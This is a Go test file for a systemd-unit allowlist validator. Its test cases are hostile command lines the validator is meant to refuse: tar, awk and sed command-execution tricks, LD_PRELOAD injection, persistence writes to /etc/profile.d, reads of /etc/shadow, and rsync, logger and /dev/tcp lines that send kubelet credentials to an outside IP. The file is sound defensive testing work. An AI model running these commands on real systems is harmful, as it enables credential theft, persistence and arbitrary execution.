package allowlist_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// round7bCase is a changed line (with the unit's other settings) and what its refusal names.
func refusedChanged(t *testing.T, why string, lines ...string) {
	t.Helper()
	// Refused as the payload's, and as new arguments of the unit's own programs.
	for _, err := range []error{strictUnit(t, true, lines...), ownUnit(t, lines...)} {
		if assert.Error(t, err, "%v", lines) {
			assert.Contains(t, err.Error(), why, "%v", lines)
			assert.Regexp(t, `^(ExecStart|ExecStartPre|ExecStop|Environment|WorkingDirectory)=`, err.Error(), "names the key")
		}
	}
}

func acceptedChanged(t *testing.T, lines ...string) {
	t.Helper()
	assert.NoError(t, strictUnit(t, true, lines...), "%v (changed)", lines)
	assert.NoError(t, strictUnit(t, false, lines...), "%v (unchanged)", lines)
}

// Round-7b adversary F2, F4, F5: getopt_long's abbreviations of long options are judged as the
// options they abbreviate, in every table.
func TestAbbreviatedLongOptionsAreTheirOptions(t *testing.T) {
	const SL = "ExecStart=/usr/bin/sleep infinity"
	refused := []struct{ line, why string }{
		{"ExecStartPre=/usr/bin/tar -c --checkpoint=1 --checkpoint-act='exec=sh /etc/myapp/app.conf' -f /run/myapp/a.tar /etc/hostname", "checkpoint-action"},
		{"ExecStartPre=/usr/bin/tar -c --use-comp='sh /etc/myapp/app.conf' -f /run/myapp/a.tar /etc/hostname", "use-compress-program"},
		{"ExecStartPre=/usr/bin/tar -x --to-comm=reboot -f /etc/myapp/app.conf -C /run/myapp", "to-command"},
		{"ExecStartPre=/usr/bin/tar -c -M -L 10 --info-s=reboot -f /run/myapp/a.tar /usr/bin/bash", "info-script"},
		{"ExecStartPre=/usr/bin/tar -c -M -L 10 --new-vol=reboot -f /run/myapp/a.tar /usr/bin/bash", "new-volume-script"},
		{"ExecStartPre=/usr/bin/tar -c --checkpoint=1 --checkpoint-action=exec=reboot -f /run/myapp/a.tar /etc/hostname", "checkpoint-action"},
		{"ExecStartPre=/usr/bin/install -s --strip-p=/usr/bin/sh /etc/myapp/app.conf /run/myapp/x", "strip-program"},
		{"ExecStartPre=/usr/bin/install -s --strip-program=/usr/bin/sh /etc/myapp/app.conf /run/myapp/x", "strip-program"},
		{"ExecStart=/usr/bin/gawk --fil=/etc/myapp/app.conf /dev/null", "/etc/myapp/app.conf"},
		{"ExecStart=/usr/bin/awk --fil /etc/myapp/app.conf", "/etc/myapp/app.conf"},
		{"ExecStart=/usr/bin/gawk --exe /etc/myapp/app.conf", "/etc/myapp/app.conf"},
		{"ExecStart=/usr/bin/gawk --inc=/etc/myapp/app.conf 'BEGIN{}'", "/etc/myapp/app.conf"},
		{"ExecStart=/usr/bin/gawk --lo=/etc/myapp/app.conf 'BEGIN{}'", "/etc/myapp/app.conf"},
		{"ExecStart=/usr/bin/gawk -f /etc/myapp/app.conf", "/etc/myapp/app.conf"},
		// The shortest prefix ("--x"), and one of several options (--to is --to-command and --to-stdout).
		{"ExecStartPre=/usr/bin/tar -x --no-same-permissions --to=reboot -f /usr/share/myapp/a.tar -C /run/myapp", "to-command"},
		{"ExecStartPre=/usr/bin/sed --f=/etc/myapp/app.conf /etc/hostname", "sed"},
		{"ExecStartPre=/usr/bin/env --sp='/usr/sbin/reboot' /usr/bin/true", "split-string"},
		{"ExecStartPre=/usr/bin/nice --adj=-5 /usr/bin/true", "nice --adjustment -5"},
		{"ExecStartPre=/usr/bin/logger --ser=203.0.113.7 -f /var/lib/kubelet/config.json", "--server"},
		{"ExecStartPre=/usr/bin/systemd-run --working-dir=/usr/local/bin /usr/bin/cp /etc/myapp/app.conf kubenswrapper", "--working-directory"},
		// Inside a script, at depth.
		{"ExecStartPre=/bin/sh -c 'tar -c --use-comp=reboot -f /run/myapp/a.tar /etc/hostname'", "use-compress-program"},
	}
	for _, c := range refused {
		refusedChanged(t, c.why, c.line, SL)
	}
	// An abbreviation in an unchanged line is judged as its option too (the classes of every line).
	assert.Error(t, strictUnit(t, false, "ExecStartPre=/usr/bin/tar -c --use-comp='sh /etc/myapp/app.conf' -f /run/myapp/a.tar /etc/hostname"))
	// Exact names and harmless abbreviations stay accepted.
	acceptedChanged(t, "ExecStartPre=/usr/bin/nice --adj=5 /usr/bin/true", SL)
	acceptedChanged(t, "ExecStartPre=/usr/bin/tar -x --no-same-owner --no-same-permissions -f /usr/share/myapp/a.tar -C /run/myapp", SL)
	// A wrapper's abbreviations stop at its command: the command's words are its own.
	acceptedChanged(t, "ExecStartPre=/usr/bin/timeout 5 /usr/bin/grep --col=never x /etc/hostname", SL)
}

// Round-7b adversary F2: gawk's indirect calls (@f() with f = "system"), @include, @load and
// @namespace are refused in any awk program text, in every line.
func TestAwkProgramsWithAtAreRefused(t *testing.T) {
	for _, l := range []string{
		`ExecStart=/usr/bin/awk 'BEGIN{f="sys" "tem"; @f("sh /etc/myapp/app.conf")}'`,
		`ExecStart=/usr/bin/gawk -e '@include "/etc/myapp/app.conf"' -e 'BEGIN{}'`,
		`ExecStart=/usr/bin/gawk '@load "/etc/myapp/x"; BEGIN{}'`,
		`ExecStart=/usr/bin/gawk '@namespace "x"; BEGIN{}'`,
		`ExecStart=/usr/bin/mawk -- 'BEGIN{@f()}'`,
	} {
		refusedChanged(t, "awk", l)
		assert.Error(t, strictUnit(t, false, l), "%s (unchanged)", l)
	}
	acceptedChanged(t, `ExecStart=/usr/bin/awk -F: '{print $1}' /etc/passwd`)
	refusedChanged(t, "system", `ExecStart=/usr/bin/awk 'BEGIN{system("reboot")}'`)
}

// Round-7b adversary F3: a changed line's sed script is read by a whitelist grammar; -f is
// refused whatever its file.
func TestChangedSedScriptsParseAsModeledCommands(t *testing.T) {
	refused := []struct{ line, why string }{
		{"ExecStart=/usr/bin/sed ':a;e' /etc/myapp/app.conf", "does not model: e"},
		{"ExecStart=/usr/bin/sed 'tx;e' /etc/myapp/app.conf", "does not model: e"},
		{"ExecStart=/usr/bin/sed ':x;s,^,sh /etc/myapp/app.conf #,e' /etc/hostname", "e flag"},
		{"ExecStart=/usr/bin/sh -c 'sed -f /dev/stdin /etc/hostname < /etc/myapp/app.conf'", "sed -f /dev/stdin"},
		{"ExecStart=/usr/bin/sed -n ':a;w /etc/profile.d/zz.sh' /etc/myapp/app.conf", "does not model: w"},
		{"ExecStart=/usr/bin/sed e /etc/myapp/app.conf", "does not model: e"},
		{"ExecStart=/usr/bin/sed -f /etc/myapp/app.conf /etc/hostname", "sed -f"},
		{"ExecStart=/usr/bin/sed -f /usr/share/myapp/fix.sed /etc/hostname", "sed -f /usr/share/myapp/fix.sed"},
		{"ExecStart=/usr/bin/sed -nf/dev/stdin /etc/hostname", "sed -f /dev/stdin"},
		{"ExecStart=/usr/bin/sed --file /dev/stdin /etc/hostname", "sed --file /dev/stdin"},
		{"ExecStart=/usr/bin/sed --fi=/dev/stdin /etc/hostname", "sed --file /dev/stdin"},
		{"ExecStart=/usr/bin/sed -e p -e 'r /etc/shadow' /etc/hostname", "does not model: r"},
		{"ExecStart=/usr/bin/sed 'R /etc/shadow' /etc/hostname", "does not model: R"},
		{"ExecStart=/usr/bin/sed 'W /etc/profile.d/zz.sh' /etc/hostname", "does not model: W"},
		{"ExecStart=/usr/bin/sed -n F /etc/hostname", "does not model: F"},
		{"ExecStart=/usr/bin/sed -e '1{e reboot' -e '}' /etc/hostname", "does not model: e"},
		{"ExecStart=/usr/bin/sed 's/x/y/w /etc/profile.d/zz.sh' /etc/hostname", "w flag"},
		{"ExecStart=/usr/bin/sed 's/x/y/ge' /etc/hostname", "e flag"},
		{"ExecStart=/usr/bin/sed '/x/!e' /etc/hostname", "does not model: e"},
		{"ExecStart=/usr/bin/sed -e '$!{N;e' -e '}' /etc/hostname", "does not model: e"},
		{"ExecStart=/usr/bin/sed 'b end; e;:end' /etc/hostname", "does not model: e"},
		{"ExecStart=/usr/bin/sed ':a e' /etc/hostname", "does not model: e"},
		// A bracket expression holding the delimiter: sed versions end the field differently.
		{"ExecStart=/usr/bin/sed 's/[/]/x/e' /etc/hostname", "cannot be read"},
		{"ExecStart=/usr/bin/sed 's/[\\\\/]/x/' /etc/hostname", "cannot be read"},
		{"ExecStart=/usr/bin/sed 'p;}' /etc/hostname", "without its {"},
		{"ExecStart=/usr/bin/sed '{p' /etc/hostname", "without its }"},
		{"ExecStart=/usr/bin/sed 'v' /etc/hostname", "does not model: v"},
		{"ExecStart=/usr/bin/sed --posixx p /etc/hostname", "sed"},
		// With -e the script is the -e's wherever they stand: '1a\\' is a file, not text swallowing them.
		{"ExecStart=/usr/bin/sed '1a\\\\' -e ':a;e' /etc/hostname", "does not model: e"},
		{"ExecStart=/usr/bin/sed /etc/hostname -e ':a;e'", "does not model: e"},
	}
	for _, c := range refused {
		refusedChanged(t, c.why, c.line)
	}
	for _, l := range []string{
		"ExecStart=/usr/bin/sed -n '/^x=/p' /etc/myapp/app.conf",
		"ExecStart=/usr/bin/sed 's|a|b|2;1d;$d' /etc/myapp/app.conf",
		"ExecStart=/usr/bin/sed -E 's/(a+)\\\\/b/\\\\1/gI' /etc/myapp/app.conf",
		"ExecStart=/usr/bin/sed ':a;N;$!ba;s/\\\\n/ /g' /etc/myapp/app.conf",
		"ExecStart=/usr/bin/sed -n '1~2p;0,/re/s//X/p;3,+2p;4,~4p' /etc/myapp/app.conf",
		"ExecStart=/usr/bin/sed 'y/abc/xyz/;q5' /etc/myapp/app.conf",
		"ExecStart=/usr/bin/sed '/x/I,/y/M !{h;G;x;P;D}' /etc/myapp/app.conf",
		"ExecStart=/usr/bin/sed -e '$$a\\\\' -e 'last' /etc/myapp/app.conf", // $$: systemd drops a word $a\\ (execpaste.go)
		"ExecStart=/usr/bin/sed '1i header; e reboot' /etc/myapp/app.conf",  // text, not a command
		"ExecStart=/usr/bin/sed -s -n --sandbox 's/[[:space:]]*$//;l 40;=;z;Q' /etc/myapp/app.conf",
		"ExecStart=/usr/bin/sed '\\\\,x,d; # a comment; e' /etc/myapp/app.conf",
		"ExecStart=/usr/bin/sed 's/[]x]/y/;tdone;s/a/b/;:done' /etc/myapp/app.conf",
	} {
		acceptedChanged(t, l)
	}
}

// Round-7b adversary F6: a changed line's systemd-run takes only its modeled grammar.
func TestChangedSystemdRunTakesItsGrammarOnly(t *testing.T) {
	const SL = "ExecStart=/usr/bin/sleep infinity"
	for _, c := range []struct{ line, why string }{
		{"ExecStartPre=/usr/bin/systemd-run --wait --setenv=LD_PRELOAD=/etc/myapp/app.conf /usr/bin/true", "LD_PRELOAD"},
		{"ExecStartPre=/usr/bin/systemd-run --wait -E BASH_ENV=/etc/myapp/app.conf /usr/bin/bash -c :", "BASH_ENV"},
		{"ExecStartPre=/usr/bin/systemd-run --wait --working-directory=/usr/local/bin /usr/bin/cp /etc/myapp/app.conf kubenswrapper", "--working-directory"},
		{"ExecStartPre=/usr/bin/systemd-run --uid=0 /usr/bin/true", "--uid"},
		{"ExecStartPre=/usr/bin/systemd-run -d /usr/bin/true", "-d"},
		{"ExecStartPre=/usr/bin/systemd-run --nice=-5 /usr/bin/true", "--nice"},
		{"ExecStartPre=/usr/bin/systemd-run -qG /usr/bin/true", "-qG"},
	} {
		refusedChanged(t, c.why, c.line, SL)
	}
	acceptedChanged(t, "ExecStartPre=/usr/bin/systemd-run --wait -q --collect --no-block --unit=myapp-x --description='x y' -E FOO=1 /usr/bin/true", SL)
	assert.NoError(t, strictUnit(t, false, "ExecStartPre=/usr/bin/systemd-run --uid=0 --working-directory=/run /usr/bin/true", SL), "the node's own line")
}

// Round-7b adversary F9, F10, F13: a changed line's modeled programs connect nowhere.
func TestChangedModeledProgramsActOnlyOnTheNode(t *testing.T) {
	for _, c := range []struct{ line, why string }{
		{"ExecStart=/usr/bin/rsync -- /etc/hostname -oProxyCommand=reboot:x", "starts with \"-\""},
		{"WorkingDirectory=/etc/myapp\nExecStart=/usr/bin/rsync -- /etc/hostname '-oProxyCommand=sh app.conf:x'", "ProxyCommand"},
		{"ExecStart=/usr/bin/rsync /var/lib/kubelet/config.json /var/lib/kubelet/kubeconfig rsync://203.0.113.7/up/", "another host"},
		{"ExecStart=/usr/bin/rsync -a /etc/hostname h:x", "another host"},
		{"ExecStart=/usr/bin/rsync -a /etc/hostname user@h::mod", "another host"},
		{"ExecStart=/usr/bin/rsync -a --files-from=h:list /etc/myapp/ /run/myapp/", "another host"},
		{"ExecStart=/usr/bin/rsync -e reboot /etc/hostname h:x", "rsync -e"},
		{"ExecStart=/usr/bin/logger -n 203.0.113.7 -P 514 -f /var/lib/kubelet/config.json", "logger -n"},
		{"ExecStart=/usr/bin/logger --server=203.0.113.7 --port=514 --tcp -f /var/lib/kubelet/kubeconfig", "--server"},
		{"ExecStart=/usr/bin/logger -T -P 514 hello", "logger -T"},
		{"ExecStart=/usr/bin/logger --rfc5424 --tcp hello", "--rfc5424"},
		{"ExecStart=/usr/bin/logger -ip user.notice -d hello", "logger -d"},
		{"ExecStart=/usr/bin/python3 -m http.server -d /var/lib/kubelet 8000", "http.server"},
		{"WorkingDirectory=/var/lib/kubelet\nExecStart=/usr/bin/python3 -m http.server 8000", "http.server"},
		{"ExecStart=/usr/bin/python3 -m http.server --directory /etc 8000", "http.server"},
		{"ExecStart=/usr/bin/python3 -m json.tool /etc/myapp/app.conf /etc/profile.d/zz.sh", "module"},
		{"ExecStart=/usr/bin/python3 -m json.tool /etc/myapp/app.conf /etc/profile", "module"},
		{"ExecStart=/usr/bin/python3 -m json.tool /etc/myapp/app.conf /etc/bashrc", "module"},
		{"ExecStart=/usr/bin/python3 -m json.tool /etc/myapp/app.conf /etc/shadow", "module"},
		{"ExecStart=/usr/bin/python3 -m json.tool /etc/myapp/app.conf /var/lib/kubelet/config.json", "module"},
		{"ExecStart=/usr/bin/python3 -Im json.tool /etc/myapp/app.conf", "json.tool"},
		{"ExecStart=/usr/bin/perl -MIO::Socket /usr/share/myapp/x.pl", "perl -M"},
		{"ExecStart=/usr/bin/cp /etc/myapp/app.conf /etc/profile.d/zz.sh", "/etc/profile.d/zz.sh"},
		{"ExecStart=/usr/bin/tar -cf h:/x /etc/hostname", "another host"},
		{"ExecStart=/usr/bin/tar -c --file=h:/x /etc/hostname", "another host"},
		{"ExecStart=/usr/bin/tar -xfh:/x -C /run/myapp", "another host"},
		{"ExecStart=/usr/bin/tar -x -f u@h:x -C /run/myapp", "another host"},
		{"ExecStart=/usr/bin/cpio -o -F h:x", "another host"},
		{"ExecStart=/usr/bin/cpio -o -Oh:x", "another host"},
		{"ExecStart=/usr/bin/gawk --dump-variables=/etc/profile.d/zz.sh 'BEGIN{x=1}'", "--dump-variables"},
		{"ExecStart=/usr/bin/gawk --pretty=/etc/profile.d/zz.sh 'reboot'", "--pretty-print"},
		{"ExecStart=/usr/bin/gawk -F: -o/etc/profile.d/zz.sh 'BEGIN{x=1}'", "awk -o"},
		{"ExecStart=/usr/bin/gawk -p /usr/local/bin/x 'BEGIN{x=1}'", "awk -p"},
		{"ExecStart=/usr/bin/gawk -D/etc/myapp/app.conf 'BEGIN{x=1}'", "awk -D"},
		{"ExecStart=/usr/bin/mawk -W exec /etc/myapp/app.conf", "awk -W"},
		{"ExecStart=/usr/bin/gawk -W file=/etc/myapp/app.conf", "awk -W"},
		{"ExecStart=/bin/sh -c 'cat < /dev/tcp/203.0.113.7/80 > /run/myapp/x'", "/dev/tcp/"},
		{"ExecStart=/bin/bash -c 'echo x > /dev/udp/203.0.113.7/53'", "/dev/udp/"},
		{"Environment=TAPE=203.0.113.7:/x\nExecStart=/usr/bin/tar -c /etc/hostname", "$TAPE"},
		{"ExecStart=/bin/sh -c 'TAPE=203.0.113.7:/x tar -c /var/lib/kubelet/config.json'", "sets TAPE"},
		{"ExecStart=/usr/bin/env TAPE=h:x /usr/bin/tar -c /etc/hostname", "sets TAPE"},
	} {
		refusedChanged(t, c.why, strings.Split(c.line, "\n")...)
	}
	for _, l := range []string{
		"ExecStart=/usr/bin/rsync -a --no-perms -L /etc/myapp/ /run/myapp/",
		"ExecStart=/usr/bin/logger -p user.notice -t myapp hello",
		"ExecStart=/usr/bin/gawk -F: -v x=1 '{print $1}' /etc/passwd",
		"ExecStart=/usr/bin/tar -x --no-same-permissions -f /usr/share/myapp/a.tar -C /run/myapp",
		"ExecStart=/usr/bin/tar -x --force-local --no-same-permissions -f /usr/share/my:app/a.tar -C /run/myapp",
	} {
		acceptedChanged(t, l)
	}
	// The node's own lines keep running modules.
	require.NoError(t, strictUnit(t, false, "ExecStart=/usr/bin/python3 -m json.tool /etc/myapp/app.conf"))
}
